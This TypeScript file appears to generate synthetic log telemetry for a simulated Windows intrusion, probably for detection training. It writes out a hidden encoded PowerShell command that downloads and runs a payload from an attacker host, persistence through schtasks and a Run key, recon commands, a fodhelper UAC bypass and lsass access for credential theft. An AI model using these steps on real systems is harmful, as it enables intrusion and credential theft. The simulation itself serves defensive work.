import { at, HOUR, MINUTE, SECOND, toIso } from './clock.ts'
import { ATTACK } from './company.ts'
import { type Desk, openDesk, PROGRAMS, saveAttachment } from './desk.ts'
import { hashBytes } from './fake-hash.ts'
import { asPerson, type DemoProcess, SYSTEM } from './machine.ts'
import { workAt } from './noise-desks.ts'
import type { Scene } from './scene.ts'
import type { StoryMail } from './story-mail.ts'

const PAYLOAD = 'C:\\ProgramData\\Lumen\\igfxhost.exe'
export const TASK_NAME = '\\Lumen\\GraphicsHost'
const RUN_VALUE = 'Software\\Microsoft\\Windows\\CurrentVersion\\Run\\GraphicsHost'

export interface DocumentStory {
  readonly desk: Desk
  readonly savedPath: string
  readonly savedAt: number
  readonly payloadPath: string
  readonly word: DemoProcess
  readonly powershell: DemoProcess
  readonly payload: DemoProcess
  readonly fodhelper: DemoProcess
  /** The payload again, now elevated. */
  readonly elevated: DemoProcess
  readonly droppedAt: number
  readonly runKey: string
  readonly taskAt: number
  readonly helpdeskAt: number
  readonly stolenAt: number
}

/** The document is opened, loads a program, stays, and takes the helpdesk's credentials out of memory. */
export function playDocument(scene: Scene, mail: StoryMail): DocumentStory {
  const { cast, hosts } = scene
  const host = hosts.deskOf(cast.opener)
  const start = at('2026-03-10 23:18:40.000')
  visitFileServer(scene, at('2026-03-09 23:26:04.000'))
  const desk = openDesk(scene, host, start)
  workAt(scene, desk, start, scene.random.fork('story opener'))
  visitFileServer(scene, start + 6 * MINUTE)
  const file = mail.document.attachments[0]
  if (!file) throw new RangeError('The document has no attachment')

  const savedAt = at('2026-03-11 00:31:18.204')
  const savedPath = saveAttachment(desk, savedAt, 'Q7ZK2M1P', file)
  const { machine } = desk
  const word = machine.start({
    at: at('2026-03-11 00:31:19.870'),
    image: PROGRAMS.word,
    commandLine: `"${PROGRAMS.word}" /n "${savedPath}" /o ""`,
    parent: desk.mailClient,
  })
  const powershell = loadPayload(desk, word)
  const payload = machine.start({
    at: at('2026-03-11 00:32:01.318'),
    image: PAYLOAD,
    parent: powershell,
    hashes: hashBytes('demo payload igfxhost'),
  })
  callHome(desk, payload)
  const runKey = stay(scene, desk, payload)
  const helpdeskAt = helpRemotely(scene, desk)
  const { fodhelper, elevated } = elevate(desk, payload)
  const lsass = machine.older(PROGRAMS.lsass, SYSTEM, 792)
  const stolenAt = at('2026-03-11 07:22:31.455')
  machine.access(elevated, stolenAt, lsass, '0x1410')
  const droppedAt = at('2026-03-11 00:31:57.642')
  const taskAt = at('2026-03-11 00:32:41.020')
  return {
    desk,
    savedPath,
    savedAt,
    payloadPath: PAYLOAD,
    word,
    powershell,
    payload,
    fodhelper,
    elevated,
    droppedAt,
    runKey,
    taskAt,
    helpdeskAt,
    stolenAt,
  }
}

/** The opener's ordinary drive mapping in the morning; it is the same way the attack takes later. */
function visitFileServer(scene: Scene, when: number): void {
  const { audit, cast, hosts } = scene
  const host = hosts.deskOf(cast.opener)
  const server = hosts.server('FS01')
  const logonId = scene.logonId()
  audit.logon(server, { at: when, who: cast.opener, type: 3, logonId, from: { ip: host.ip } })
  audit.share(server, when + SECOND, cast.opener, logonId, host.ip, 'Logistik')
  audit.logoff(server, when + 12 * MINUTE, cast.opener, logonId, 3)
}

function loadPayload(desk: Desk, word: DemoProcess): DemoProcess {
  const { machine } = desk
  const script = `Invoke-WebRequest -Uri ${ATTACK.payloadUrl} -OutFile ${PAYLOAD}; Start-Process ${PAYLOAD}`
  const encoded = Buffer.from(script, 'utf16le').toString('base64')
  const powershell = machine.start({
    at: at('2026-03-11 00:31:52.440'),
    image: PROGRAMS.powershell,
    commandLine: `powershell.exe -nop -w hidden -enc ${encoded}`,
    parent: word,
  })
  machine.script(powershell, at('2026-03-11 00:31:53.118'), script)
  machine.resolve(powershell, at('2026-03-11 00:31:54.007'), ATTACK.payloadHost, [ATTACK.payloadIp])
  machine.connect(powershell, at('2026-03-11 00:31:54.213'), {
    ip: ATTACK.payloadIp,
    port: 443,
    host: ATTACK.payloadHost,
  })
  machine.createFile(powershell, at('2026-03-11 00:31:57.642'), PAYLOAD)
  return powershell
}

function callHome(desk: Desk, payload: DemoProcess): void {
  for (let hour = 0; hour < 9; hour++) {
    const when = at('2026-03-11 00:32:03.000') + hour * HOUR + ((hour * 7919) % 240) * SECOND
    desk.machine.resolve(payload, when, ATTACK.controlHost, [ATTACK.controlIp])
    desk.machine.connect(payload, when + SECOND, {
      ip: ATTACK.controlIp,
      port: 443,
      host: ATTACK.controlHost,
    })
  }
}

/** A scheduled task and a run key. Returns the key. */
function stay(scene: Scene, desk: Desk, payload: DemoProcess): string {
  const { machine, owner, host } = desk
  machine.start({
    at: at('2026-03-11 00:32:40.612'),
    image: 'C:\\Windows\\System32\\schtasks.exe',
    commandLine: `schtasks /create /tn ${TASK_NAME} /tr ${PAYLOAD} /sc onlogon`,
    parent: payload,
  })
  scene.audit.task(host, at('2026-03-11 00:32:41.020'), owner, desk.identity.logonId, TASK_NAME, PAYLOAD)
  const key = `HKU\\${owner.sid}\\${RUN_VALUE}`
  machine.setRegistry(payload, at('2026-03-11 00:32:44.208'), key, PAYLOAD)
  for (const [offset, commandLine] of [
    [0, 'whoami /all'],
    [20, 'net view'],
    [48, 'net group "Domain Admins" /domain'],
  ] as const)
    machine.start({
      at: at('2026-03-11 00:35:10.000') + offset * SECOND,
      image: `C:\\Windows\\System32\\${commandLine.replace(/ .*/, '')}.exe`,
      commandLine,
      parent: payload,
    })
  return key
}

/** The user complains about a slow computer; the helpdesk looks in and leaves credentials in memory. */
function helpRemotely(scene: Scene, desk: Desk): number {
  const { audit, cast, hosts } = scene
  const helpdeskHost = hosts.deskOf(cast.helpdesk)
  const helpdesk = openDesk(scene, helpdeskHost, at('2026-03-11 06:40:12.000'))
  const when = at('2026-03-11 07:05:33.190')
  const client = helpdesk.machine.start({
    at: when - 21 * SECOND,
    image: 'C:\\Windows\\System32\\mstsc.exe',
    commandLine: `mstsc.exe /v:${desk.host.fqdn}`,
    parent: helpdesk.explorer,
  })
  helpdesk.machine.connect(client, when - 9 * SECOND, { ip: desk.host.ip, port: 3389, host: desk.host.fqdn })
  const logonId = scene.logonId()
  audit.logon(desk.host, {
    at: when,
    who: cast.helpdeskAdmin,
    type: 10,
    logonId,
    from: { ip: helpdeskHost.ip, workstation: desk.host.netbios },
    elevated: true,
  })
  const identity = { ...asPerson(cast.helpdeskAdmin, logonId, 'High'), session: 2 }
  const userinit = desk.machine.older('C:\\Windows\\System32\\userinit.exe', identity, 7216)
  const explorer = desk.machine.start({
    at: when + 3 * SECOND,
    image: PROGRAMS.explorer,
    commandLine: 'C:\\Windows\\Explorer.EXE',
    parent: userinit,
  })
  desk.machine.start({
    at: when + 60 * SECOND,
    image: 'C:\\Windows\\System32\\Taskmgr.exe',
    parent: explorer,
  })
  return when
}

/** The known detour over fodhelper: a registry value, an auto-elevating program, the payload again with full rights. */
function elevate(desk: Desk, payload: DemoProcess): { fodhelper: DemoProcess; elevated: DemoProcess } {
  const { machine, owner } = desk
  const key = `HKU\\${owner.sid}_Classes\\ms-settings\\shell\\open\\command\\(Default)`
  machine.setRegistry(payload, at('2026-03-11 07:20:10.031'), key, PAYLOAD)
  const high = { ...desk.identity, integrity: 'High' as const }
  const fodhelper = machine.start({
    at: at('2026-03-11 07:20:12.577'),
    image: 'C:\\Windows\\System32\\fodhelper.exe',
    parent: payload,
    identity: high,
  })
  const elevated = machine.start({
    at: at('2026-03-11 07:20:13.102'),
    image: PAYLOAD,
    parent: fodhelper,
    hashes: hashBytes('demo payload igfxhost'),
  })
  return { fodhelper, elevated }
}

/** For the read-me: when the opener's computer was taken off the network. */
export const ISOLATED_AT = toIso(at('2026-03-11 10:30'))
